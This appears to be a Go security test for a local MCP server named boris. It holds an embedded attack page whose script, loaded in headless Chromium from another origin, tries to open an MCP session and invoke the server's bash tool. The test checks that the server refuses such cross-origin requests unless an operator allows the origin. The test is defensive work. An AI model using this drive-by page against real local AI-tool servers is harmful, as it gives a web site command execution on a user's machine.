package blackbox

import (
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// chromiumPath finds a headless-capable Chromium; the suite needs one
// (make test installs Debian's chromium), so its absence fails the test.
func chromiumPath(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "google-chrome-stable"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	t.Fatal("no Chromium found: the browser attack test needs Debian's chromium package (make test installs it)")
	return ""
}

// attackPage is what a hostile web site serves: its script drives boris at
// target the way an MCP client would — a preflighted JSON handshake and a
// bash call, and a "simple" text/plain POST that browsers send without a
// preflight — then reports what the page could see to its own origin.
const attackPage = `<!doctype html>
<title>not an MCP client</title>
<script>
const target = %q;
const marker = %q;
const results = {};
function rpc(id, method, params) {
  return JSON.stringify({jsonrpc: "2.0", id: id, method: method, params: params});
}
async function attempt(name, fn) {
  try { results[name] = await fn(); } catch (e) { results[name] = "blocked: " + e; }
}
async function run() {
  await attempt("json", async () => {
    const h = {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"};
    let r = await fetch(target, {method: "POST", headers: h, body: rpc(1, "initialize",
      {protocolVersion: "2025-11-25", capabilities: {}, clientInfo: {name: "page", version: "1"}})});
    const sid = r.headers.get("Mcp-Session-Id");
    await r.text();
    if (!r.ok || !sid) return "initialize: HTTP " + r.status + " session " + sid;
    h["Mcp-Session-Id"] = sid;
    h["Mcp-Protocol-Version"] = "2025-11-25";
    r = await fetch(target, {method: "POST", headers: h, body: JSON.stringify({jsonrpc: "2.0", method: "notifications/initialized"})});
    await r.text();
    r = await fetch(target, {method: "POST", headers: h, body: rpc(2, "tools/call",
      {name: "bash", arguments: {command: "touch " + marker + "-json && echo ran"}})});
    return "HTTP " + r.status + ": " + await r.text();
  });
  await attempt("simple", async () => {
    const r = await fetch(target, {method: "POST", mode: "no-cors", headers: {"Content-Type": "text/plain"},
      body: rpc(3, "tools/call", {name: "bash", arguments: {command: "touch " + marker + "-simple"}})});
    return "opaque response: " + r.type;
  });
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
}
run();
</script>`

// attackSite is a hostile web site on a second local origin serving
// attackPage.
type attackSite struct {
	srv     *httptest.Server
	reports chan string
	target  atomic.Value // boris's /mcp (a string), set before each visit
	marker  string
}

func newAttackSite(t *testing.T, marker string) *attackSite {
	t.Helper()
	a := &attackSite{reports: make(chan string, 1), marker: marker}
	a.srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/":
			w.Header().Set("Content-Type", "text/html")
			fmt.Fprintf(w, attackPage, a.target.Load(), a.marker)
		case "/report":
			b, _ := io.ReadAll(r.Body)
			select {
			case a.reports <- string(b):
			default:
			}
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(a.srv.Close)
	return a
}

// origin is the site's origin as a browser sends it.
func (a *attackSite) origin() string { return a.srv.URL }

// visit opens the page in headless Chromium, aimed at target, and returns
// what the page reported.
func (a *attackSite) visit(t *testing.T, target string) string {
	t.Helper()
	a.target.Store(target)
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, chromiumPath(t), "--headless=new", "--no-sandbox", "--disable-gpu",
		"--no-first-run", "--disable-extensions", "--user-data-dir="+t.TempDir(), a.srv.URL+"/")
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true}
	cmd.Cancel = func() error { return syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL) }
	var out strings.Builder
	cmd.Stdout, cmd.Stderr = &out, &out
	if err := cmd.Start(); err != nil {
		t.Fatalf("start chromium: %v", err)
	}
	defer func() { cancel(); _ = cmd.Wait() }()
	select {
	case r := <-a.reports:
		return r
	case <-ctx.Done():
		t.Fatalf("the page never reported (chromium output):\n%s", out.String())
	}
	return ""
}

// TestBrowserPageCannotDriveBoris is the drive-by attack: a page from
// another origin, in a real browser, tries to run a command through boris
// on localhost. Without --allow-origin nothing runs; with the page's origin
// listed, the same page works — the refusal comes from the Origin rule.
func TestBrowserPageCannotDriveBoris(t *testing.T) {
	marker := filepath.Join(t.TempDir(), "pwned")
	site := newAttackSite(t, marker)

	p := startInProcess(t)
	report := site.visit(t, p.url+"/mcp")
	for _, suffix := range []string{"-json", "-simple"} {
		if _, err := os.Stat(marker + suffix); err == nil {
			t.Fatalf("the page ran a command (%s): %s", suffix, report)
		}
	}
	if !strings.Contains(report, `"json":"blocked: TypeError`) {
		t.Fatalf("the page was not refused: %s", report)
	}
	if !strings.Contains(p.logs.String(), "refused a request from a browser origin") {
		t.Fatalf("no refusal logged:\n%s", p.logs)
	}

	// The same page with its origin allowed by the operator: the call runs
	// and the page reads the result. The no-preflight text/plain POST still
	// runs nothing (MCP requests are JSON).
	allowed := startInProcess(t, "--allow-origin="+site.origin())
	report = site.visit(t, allowed.url+"/mcp")
	if _, err := os.Stat(marker + "-json"); err != nil {
		t.Fatalf("with --allow-origin=%s the page's call did not run: %s", site.origin(), report)
	}
	if !strings.Contains(report, "HTTP 200") || !strings.Contains(report, "exit_code: 0") {
		t.Fatalf("the allowed page did not see the result: %s", report)
	}
	if _, err := os.Stat(marker + "-simple"); err == nil {
		t.Fatal("a text/plain no-cors POST ran a command")
	}
}
